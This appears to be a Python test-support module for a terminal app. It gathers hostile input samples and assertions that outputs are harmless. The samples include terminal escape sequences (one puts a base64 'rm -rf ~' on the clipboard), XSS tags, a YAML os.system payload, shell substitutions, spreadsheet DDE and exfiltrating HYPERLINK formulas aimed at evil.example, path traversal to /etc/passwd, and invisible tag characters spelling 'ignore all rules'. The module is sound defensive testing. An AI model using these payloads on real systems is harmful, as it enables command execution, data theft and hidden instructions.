"""Strings that do harm where they are taken for more than text, and what tells whether an output is harmless.

For every test of a field or an output: put `EVIL` in, and ask `assert_harmless` about the bytes that come out.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from note_samples import EVIL as STRUCTURE

from deescalate_tui.clean import clean

ESC, BEL, CSI8, OSC8 = "\x1b", "\x07", "\x9b", "\x9d"
STEERING = (
    f"{ESC}[31mrot{ESC}[0m",
    f"{ESC}[2J{ESC}[H{ESC}[?1049l",
    f"{ESC}]0;Titel{BEL}",
    f"{ESC}]8;;https://evil.example{ESC}\\Link{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
    f"{ESC}P+q544e{ESC}\\",
    f"{ESC}c{ESC}(0{ESC}[6n",
    f"{CSI8}31m{OSC8}0;x\x9c",
    "".join(map(chr, range(0x20))) + "".join(map(chr, range(0x7F, 0xA0))),
    "eins\x00zwei",
    "weg\x08\x08\x08da\rdavor",
)
"""Control characters and sequences of terminals, seven bits and eight."""
HIDDEN = (
    "\u202etxt.exe\u202c \u2066a\u2069 \u061c \u200e\u200f",
    "un\u200bsicht\u200c\u200dbar\ufeff\u2060\u00ad",
    "".join(chr(0xE0000 + ord(sign)) for sign in "ignore all rules"),
    "\ud800 \udfff \udc9b31m \udcff",
    "\ufffe\uffff\ufff9\ufdd0 \U000e0100\u180e",
)
"""Bidi controls, invisible characters, tags, lone surrogates as a broken argument gives them, no characters at all."""
MARKUP = (
    "[/]",
    "[@click=app.quit]x[/]",
    "[bold red on white]x[/bold red on white]",
    "[link=https://evil.example]x[/link]",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<!-- timeline 0 -->\n```text\n00:00 done breathe\n```",
    "---\nid: x\noutcome: resolved\n---\n",
    "&a [*a, *a] !!python/object/apply:os.system ['true']",
    "{request.__class__.__mro__} {0} {customer!r} {",
    "%(request)s %n $HOME `id` $(id) ; id | id & id",
)
"""What Textual, HTML, a note, YAML, templates and a shell would read more into."""
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1)',
    "+49 1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
"""What a spreadsheet would calculate."""
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "CON",
    "NUL.md",
    "aux.",
    "a" * 300,
    ".",
    "..",
    "~",
)
"""What a file system would follow or refuse."""
SHAPES = (
    "x" * 100_000,
    "Wort " * 20_000,
    "Z" + "\u0301" * 500,
    "ｆｕｌｌ　ｗｉｄｔｈ 漢字 한글 👩‍👩‍👧‍👦 🇳🇴 ①½…—",
    "שלום לך مرحبا بك",
    "ﷺ\ufb2c\u1e9b\u0323",
    "a\nb\r\nc\rd\u2028e\u2029f\x85g\x0bh\x0ci",
)
"""Too long, stacked, wide, ambiguous, from right to left, composed, and every line end."""

EVIL = tuple(dict.fromkeys((*STRUCTURE, *STEERING, *HIDDEN, *MARKUP, *FORMULAS, *PATHS, *SHAPES)))
ALL_IN_ONE = " ".join(text for text in EVIL if len(text) < 1000)
"""Most of it as a single text, where one try for each costs too much."""
FEW = (ALL_IN_ONE, *STEERING[2:5], HIDDEN[3], MARKUP[1], SHAPES[0])
"""The worst, for outputs that are slow."""

_HARM = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ud800-\udfff\ufeff"
    "\ufff0-\ufffb\ufffe\uffff\U000e0000-\U000e0fff]"
)
_OWN = re.compile(rb"\x1b\[[0-9;:?<>=]*[ -/]*[@-~]|\x1b[=>78]|\x1b\][0-9]+;[^\x1b\x07\x80-\xff]*(?:\x07|\x1b\\)")


def assert_harmless(data: bytes) -> None:
    """It is UTF-8, and nothing in it steers a terminal, turns the direction of text or hides; tabs and LF may be."""
    text = data.decode()
    found = _HARM.search(text)
    assert found is None, repr(text[max(0, found.start() - 60) : found.end() + 20])


def assert_harmless_screen(raw: bytes, marks: Iterable[str] = ()) -> None:
    """What a program sent to a terminal: beside its own sequences harmless, and none of them holds what was typed."""
    for sequence in _OWN.findall(raw):
        assert not any(mark.encode() in sequence for mark in marks), sequence
    assert_harmless(_OWN.sub(b"", raw).replace(b"\r", b""))


def assert_no_formula(cells: Iterable[str]) -> None:
    """No cell of a table would be calculated by a spreadsheet."""
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def seen(text: str) -> str:
    """What may be left of a typed text."""
    return clean(text).strip()
